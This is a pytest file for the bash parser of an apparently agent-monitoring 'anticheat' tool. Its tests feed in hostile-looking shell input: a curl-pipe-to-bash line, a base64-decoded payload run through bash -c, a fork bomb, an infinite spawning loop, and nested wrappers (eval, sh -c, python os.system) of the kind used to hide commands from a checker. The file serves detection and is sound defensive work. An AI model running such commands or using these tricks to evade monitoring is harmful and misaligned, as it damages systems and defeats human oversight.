"""The bash front end: flattening, quoting, nesting, wrappers, heredocs, budgets."""

from __future__ import annotations

import time

import pytest

from anticheat.analysis.bash.parser import MAX_SOURCE_BYTES, parse_script


def argv(source: str) -> list[list[str]]:
    return [[w.text for w in c.argv] for c in parse_script(source).commands]


def test_quotes_are_resolved() -> None:
    assert argv('g\\it \'lo\'g --a"ll" "a b"c') == [["git", "log", "--all", "a bc"]]
    assert argv("$'\\x67it' log") == [["git", "log"]]


def test_dynamic_words_are_marked() -> None:
    (cmd,) = parse_script("curl $URL").commands
    assert not cmd.args[0].static


def test_static_variables_are_followed() -> None:
    assert argv("X=--all; git log $X")[-1] == ["git", "log", "--all"]
    assert argv("export H=github.com; curl https://$H/x")[-1] == ["curl", "https://github.com/x"]


@pytest.mark.parametrize(
    "source",
    [
        "FOO=1 env -i timeout 5 /usr/bin/git log",
        "sudo -u root nice -n 10 git log",
        "nohup stdbuf -o0 git log &",
        "command git log",
        "exec git log",
        "time git log",
        "xargs -n1 git log < /dev/null",
        "uv run git log",
        "env -S 'git log'",
    ],
)
def test_wrappers_and_absolute_paths_are_peeled(source: str) -> None:
    cmds = parse_script(source).commands
    assert any(c.name == "git" and c.texts()[:1] == ["log"] for c in cmds), [
        (c.name, c.wrappers) for c in cmds
    ]


@pytest.mark.parametrize(
    "source",
    [
        "sh -c 'git log'",
        'bash -lc "git log"',
        "eval 'git log'",
        "echo $(git log)",
        "echo `git log`",
        "(cd x && git log)",
        "{ git log; }",
        "true && git log || false",
        "cat <(git log)",
        "bash <<'EOF'\ngit log\nEOF",
        "echo 'git log' | sh",
        "busybox sh -c 'git log'",
        "su -c 'git log'",
        "find . -exec git log {} \\;",
        "watch -n1 'git log'",
        "if true; then git log; fi",
        "for x in 1; do git log; done",
        "f() { git log; }; f",
        "python -c 'import os; os.system(\"git log\")'",
        "perl -e 'system(\"git log\")'",
        "x=$(bash -c \"sh -c 'git log'\")",
    ],
)
def test_nested_commands_are_flattened(source: str) -> None:
    from anticheat.analysis.facts import analyze
    from proctor.models import BashAction

    facts = analyze(BashAction(command=source))
    assert any(c.name == "git" and c.texts()[:1] == ["log"] for c in facts.commands)


def test_heredoc_feeding_an_interpreter_is_python() -> None:
    script = parse_script("cat <<'EOF' | python3 -\nimport os\nEOF")
    assert script.python == [("import os\n", "python stdin (cat)")]
    script = parse_script("python - <<< 'print(1)'")
    assert script.python[0][0] == "print(1)\n"


def test_heredoc_written_to_file_has_content() -> None:
    (cat,) = parse_script("cat > conftest.py <<'EOF'\nx = 1\nEOF").commands
    assert cat.stdin == "x = 1\n" and cat.redirects[0].target.text == "conftest.py"


def test_decoded_payloads_are_screened() -> None:
    script = parse_script('bash -c "$(echo Z2l0IGxvZyAtLWFsbA== | base64 -d)"')
    inner = [c for c in script.commands if c.name == "git"]
    assert inner and inner[0].texts() == ["log", "--all"] and inner[0].decoded
    assert script.decoded_exec


def test_pipe_from_unknown_source_into_shell_is_dynamic() -> None:
    assert parse_script("curl -s https://x.sh | bash").dynamic_exec


def test_cwd_is_tracked() -> None:
    cmds = parse_script("cd tests && rm x.py; (cd /tmp); ls").commands
    rm = next(c for c in cmds if c.name == "rm")
    ls = next(c for c in cmds if c.name == "ls")
    assert rm.cwd == "tests" and ls.cwd == "tests"


def test_background_and_loops() -> None:
    script = parse_script("while true; do sleep 1 & done")
    assert script.loops[0].infinite and script.loops[0].spawns
    assert not parse_script("for i in 1 2; do echo $i; done").loops[0].infinite
    assert parse_script("for i in {1..5000}; do :; done").loops[0].iterations == 5000


def test_fork_bomb_function_is_recorded() -> None:
    script = parse_script(":(){ :|:& };:")
    assert [c.name for c in script.functions[":"]] == [":", ":"]


def test_syntax_errors_are_problems_not_exceptions() -> None:
    assert parse_script('echo "unterminated').problems


def test_size_budget() -> None:
    source = "echo hi; " * (MAX_SOURCE_BYTES // 4)
    start = time.process_time()
    script = parse_script(source)
    assert time.process_time() - start < 1.5
    assert any("only the first" in p for p in script.problems)


def test_nesting_budget() -> None:
    script = parse_script("sh -c " + "'sh -c \"" * 20 + "ls" + "\"'" * 20)
    assert isinstance(script.problems, list)  # terminates, whatever it could read
    deep = parse_script("echo " + "$(" * 2000 + "x" + ")" * 2000)
    assert any("nested" in p for p in deep.problems)
